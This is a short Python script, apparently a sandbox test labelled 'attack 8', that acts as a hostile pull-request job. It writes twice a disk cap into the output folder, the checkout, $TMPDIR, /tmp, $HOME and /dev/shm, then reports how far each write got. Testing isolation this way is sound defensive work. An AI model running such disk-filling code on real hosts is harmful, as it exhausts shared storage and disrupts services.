"""A pull request's job that tries to fill the host's disk (issue 13, attack 8): it writes twice the disk
cap (argv[2] bytes) into out/ (argv[1]), the checkout (its working directory), $TMPDIR, /tmp, $HOME and
/dev/shm (POSIX shared memory, a file system of its own), keeps what it wrote, and prints one line
`DISK-ATTACK {json}`: the bytes each write got through, and the error that stopped it."""

import json
import os
import sys

out, cap = sys.argv[1], int(sys.argv[2])
chunk = b"x" * (64 * 1024)
found = {}
targets = [("out", out), ("checkout", os.getcwd()), ("TMPDIR", os.environ.get("TMPDIR", "/tmp"))]
targets += [("tmp", "/tmp"), ("HOME", os.environ.get("HOME", "/tmp")), ("shm", "/dev/shm")]
for name, folder in targets:
    written, error = 0, None
    try:
        with open(os.path.join(folder, f"fill-{name}.bin"), "wb", buffering=0) as f:
            while written < 2 * cap:
                written += f.write(chunk)
    except OSError as e:
        error = e.strerror
    found[name] = {"written": written, "error": error}
print("DISK-ATTACK " + json.dumps(found), flush=True)
